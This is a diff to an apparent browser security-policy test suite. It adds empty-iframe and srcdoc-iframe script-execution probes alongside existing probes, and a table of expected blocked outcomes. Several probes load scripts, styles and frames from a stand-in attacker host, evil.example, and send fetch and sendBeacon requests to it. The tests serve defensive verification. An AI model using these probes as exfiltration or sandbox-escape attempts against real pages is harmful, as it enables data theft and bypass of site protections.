@@ -28,6 +28,20 @@ const attacks = {
   script: () => added("script", { src: "https://evil.example/a.js" }),
   style: () => added("link", { rel: "stylesheet", href: "https://evil.example/a.css" }),
   iframe: () => added("iframe", { src: "https://evil.example/" }),
+  bareframe: () => {
+    const frame = document.createElement("iframe");
+    document.body.append(frame);
+    return String(frame.contentWindow);
+  },
+  srcdoc: () => new Promise((resolve) => {
+    window.srcdocRan = false;
+    const frame = document.createElement("iframe");
+    frame.srcdoc = "<script>parent.srcdocRan = true<\\/script>";
+    const around = document.createElement("p");
+    around.append(frame);
+    document.body.append(around);
+    setTimeout(() => resolve(window.srcdocRan), 300);
+  }),
   embed: () => added("embed", { src: "https://evil.example/o", type: "application/pdf" }),
   fetch: () => rejected(() => fetch("https://evil.example/fetch")),
   beacon: () => refusal(() => navigator.sendBeacon("https://evil.example/beacon", "x")),
@@ -78,6 +92,8 @@ ATTACKS = {
     "script": ("error", "foreign-script", "https://evil.example/a.js"),
     "style": ("error", "foreign-style", "https://evil.example/a.css"),
     "iframe": ("load", "iframe", "https://evil.example/"),
+    "bareframe": ("null", "iframe", "about:blank"),
+    "srcdoc": (False, "iframe", "srcdoc"),
     "embed": (None, "plugin", "https://evil.example"),
     "fetch": ("TypeError", "untrusted-request", "https://evil.example/fetch"),
     "beacon": (None, "untrusted-request", "https://evil.example/beacon"),
